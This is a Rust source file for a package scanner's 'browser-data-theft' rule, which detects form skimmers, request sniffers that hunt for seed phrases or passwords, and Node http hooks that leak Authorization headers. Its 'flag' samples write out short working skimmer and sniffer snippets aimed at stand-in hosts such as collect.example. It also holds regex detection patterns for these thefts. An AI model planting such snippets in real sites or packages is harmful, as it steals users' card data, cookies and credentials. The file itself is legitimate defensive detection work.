//! Rule `browser-data-theft`.

use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Browser code that collects what users type or send and ships it to a fixed place. A form
    /// skimmer: a submit listener that gathers every field of the form (a `form.elements` loop,
    /// `serializeArray()`, `serialize()`) and sends it by image beacon, `sendBeacon` or a request,
    /// in code that fixes the destination itself (a literal URL, or one assembled from hex or
    /// char codes) or that targets checkout and card pages. A request sniffer: a wrapper around
    /// `XMLHttpRequest.prototype.send` or `fetch` that tests outgoing bodies for secrets
    /// (mnemonic, seed, private key, password) and sends them out together with `document.cookie`
    /// or the whole `localStorage`. The server-side twin: Node's `http`/`https` `request` or
    /// `get` replaced by a wrapper that takes the `Authorization` or `Cookie` header of every
    /// outgoing request and sends it to a host written next to it (the hook a backdoor splices
    /// into other installed packages). Payment SDKs read their own card fields and post them to
    /// their API; monitoring agents wrap fetch or http for timings and send where they are
    /// configured: neither gathers every field nor greps bodies for secrets.
    id: "browser-data-theft",
    category: Data,
    severity: Critical,
    capability: Some(crate::model::Capability::Network),
    title: "skims forms or sniffs requests in the browser and sends the data out",
    incident: "Magecart supply-chain skimmers (2018-2024); IconBurst (2022) ionicons typosquats; js-cookie-style fetch/XHR sniffers (2025)",
    case_file: "index.js",
    flag: ["if (/checkout|payment/.test(location.pathname)) document.addEventListener('submit', function (e) { var d = {}; for (var i = 0; i < e.target.elements.length; i++) { var el = e.target.elements[i]; d[el.name] = el.value } (new Image).src = h + '?d=' + btoa(JSON.stringify(d)) }, true)",
           "$('form').submit(function () { var data = $(this).serializeArray(); $.ajax({ url: 'https://collect.example/u.php', type: 'POST', data: JSON.stringify(data) }) })",
           "var n = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (d) { if (/mnemonic|private_?key/i.test(d)) navigator.sendBeacon(E, JSON.stringify({ c: document.cookie, d: d })); return n.apply(this, arguments) }",
           "const https = require('https'); const orig = https.request; https.request = function (opts, cb) { const h = (opts && opts.headers) || {}; const a = h.Authorization || h.authorization; if (a) orig({ hostname: 'hdr.collect.example', path: '/h', method: 'POST' }).end(a); return orig.apply(this, arguments) }"],
    pass: ["form.addEventListener('submit', async (e) => { e.preventDefault(); await fetch(API, { method: 'POST', body: JSON.stringify({ number: card.value }) }) })",
           "var of = window.fetch; window.fetch = function (u) { var t0 = performance.now(); return of.apply(this, arguments).then(function (r) { navigator.sendBeacon(cfg.endpoint, JSON.stringify({ u: u, d: performance.now() - t0 })); return r }) }; var m = document.cookie.match(/sid=([^;]+)/)",
           "form.addEventListener('submit', (e) => { const data = new FormData(form); fetch(form.action, { method: 'POST', body: data }) })",
           // an APM agent: wraps http.request for timings, redacts the header, sends where configured
           "const http = require('http'); const orig = http.request; http.request = function (opts) { const t0 = Date.now(); const h = Object.assign({}, opts.headers); if (h.authorization) h.authorization = '[redacted]'; const req = orig.apply(this, arguments); req.on('response', () => agent.record({ url: opts.path, ms: Date.now() - t0, headers: h })); return req }; agent.flushTo(config.serverUrl)"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let submit = crate::regex!(
        r#"addEventListener\(\s*['"`]submit['"`]|\.submit\(\s*function|\.on\(\s*['"`]submit['"`]|onsubmit\s*="#
    );
    let gather = crate::regex!(
        r"\.elements\.length|\.elements\[|serializeArray\(\)|\.serialize\(\)|querySelectorAll\(\s*['\x22`](input|form input|input, ?select)"
    );
    let send = crate::regex!(
        r"new Image\)?\.src\s*=|new Image\(\)\.src\s*=|navigator\.sendBeacon\(|\$\.(ajax|post)\(|\bfetch\(|XMLHttpRequest"
    );
    let fixed_url = crate::regex!(r#"['"`]https?://[^'"`\s]+['"`]|fromCharCode\(\s*parseInt\("#);
    let own_target = crate::regex!(r"\.action\b");
    let targeting = crate::regex!(r"(?i)checkout|billing|payment|card|cvv|cvc");
    let sniff = crate::regex!(
        r"XMLHttpRequest\.prototype\.send\s*=|\bwindow\.fetch\s*=|\bglobalThis\.fetch\s*="
    );
    let secret_test = crate::regex!(r"(?i)mnemonic|seed|private_?key|passphrase|password");
    let loot = crate::regex!(
        r"JSON\.stringify\(\s*localStorage\s*\)|[:(,]\s*document\.cookie\s*[,})]|\+\s*document\.cookie\b"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) || f.js.is_none() {
            continue;
        }
        let text = all_text(f);
        if !crate::mentions!(
            text,
            ["submit", "prototype.send", ".fetch", ".request", ".get"]
        ) {
            continue;
        }
        if let Some(off) = node_header_hook(f, text) {
            out.hit(
                pkg,
                f,
                off,
                "replaces Node's http request function and sends the Authorization or Cookie header of outgoing requests to a fixed host",
            );
            continue;
        }
        if let (Some(s), true, true) = (
            submit.find(text),
            gather.is_match(text),
            send.is_match(text),
        ) && (fixed_url.is_match(text) || targeting.is_match(text))
            && (!own_target.is_match(text) || targeting.is_match(text))
        {
            let off = f.text_off(s.start(), 0);
            out.hit(
                pkg,
                f,
                off,
                "collects every field of submitted forms and sends them to a fixed address",
            );
            continue;
        }
        if let Some(s) = sniff.find(text)
            && secret_test.is_match(text)
            && loot.is_match(text)
        {
            let off = f.text_off(s.start(), 0);
            out.hit(
                pkg,
                f,
                off,
                "wraps outgoing requests, looks for secrets in them and sends them out with cookies or localStorage",
            );
        }
    }
}

/// Node's `http`/`https` `request`/`get` replaced (`https.request = function …`), with an
/// `Authorization`/`Cookie` header read within a few hundred characters of a host or URL
/// written in the code: where the wrapper sends what it took. The offset of the assignment.
fn node_header_hook(f: &crate::package::FileCtx, text: &str) -> Option<u32> {
    let js = f.js.as_ref()?;
    let (_, off) = js.assigns.iter().find(|(p, _)| {
        matches!(
            p.as_str(),
            "http.request" | "https.request" | "http.get" | "https.get"
        )
    })?;
    let leak = crate::regex!(
        r#"(?i)\b(?:authorization|cookie)\b[^\n]{0,300}?(?:\bhost(?:name)?['"]?\s*:\s*['"][\w.-]+\.[a-z0-9]+['"]|['"]https?://[\w.-]+\.[a-z0-9]+)"#
    );
    leak.is_match(text).then_some(*off)
}
